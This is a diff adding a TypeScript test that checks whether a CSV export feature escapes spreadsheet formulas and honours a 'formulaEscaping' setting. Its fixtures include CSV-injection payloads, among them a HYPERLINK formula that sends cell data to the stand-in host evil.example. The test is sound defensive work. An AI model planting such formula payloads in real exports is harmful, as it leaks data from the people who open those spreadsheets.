@@ -193,4 +193,56 @@ describe('file destination (through the API)', () => {
       'email\r\np10@example.test\r\np11@example.test\r\np12@example.test\r\n',
     );
   });
+  it('neutralizes spreadsheet formulas in CSV cells unless formulaEscaping is turned off', async () => {
+    const hostile = new TestAudience(t, 'hostile people');
+    await hostile.load([
+      person(20, ['formula'], { firstName: '=HYPERLINK("https://evil.example/?x="&A1,"Open")' }),
+      person(21, ['formula'], { firstName: '@SUM(1+1)*cmd', email: '+1+2@example.test' }),
+    ]);
+    const formula = await hostile.segment('Formulas', 'formula');
+    const type = (await t.api().get('/api/destination-types').expect(200)).body.find(
+      (d: { type: string }) => d.type === 'file',
+    );
+    expect(type.configSchema.properties.formulaEscaping).toMatchObject({
+      type: 'boolean',
+      default: true,
+      description: expect.stringMatching(/formula/),
+    });
+    const created = await t
+      .api()
+      .post('/api/destinations', {
+        type: 'file',
+        displayName: 'Spreadsheet files',
+        config: { folder: 'sheets', fields: ['firstName', 'email'] },
+        segmentIds: [formula],
+      })
+      .expect(201);
+    expect(created.body.config.formulaEscaping).toBe(true);
+    const file = join(t.dataDir, 'exports', 'sheets', 'Formulas.csv');
+    expect((await exportNow(t, created.body.id)).status).toBe('succeeded');
+    expect(readFileSync(file, 'utf8')).toBe(
+      [
+        'firstName,email',
+        '"\'=HYPERLINK(""https://evil.example/?x=""&A1,""Open"")",p20@example.test',
+        '"\'@SUM(1+1)*cmd","\'+1+2@example.test"',
+        '',
+      ].join('\r\n'),
+    );
+
+    await t
+      .api()
+      .put(`/api/destinations/${created.body.id}`, {
+        config: { folder: 'sheets', fields: ['firstName', 'email'], formulaEscaping: false },
+      })
+      .expect(200);
+    expect((await exportNow(t, created.body.id)).status).toBe('succeeded');
+    expect(readFileSync(file, 'utf8')).toBe(
+      [
+        'firstName,email',
+        '"=HYPERLINK(""https://evil.example/?x=""&A1,""Open"")",p20@example.test',
+        '@SUM(1+1)*cmd,+1+2@example.test',
+        '',
+      ].join('\r\n'),
+    );
+  });
 });
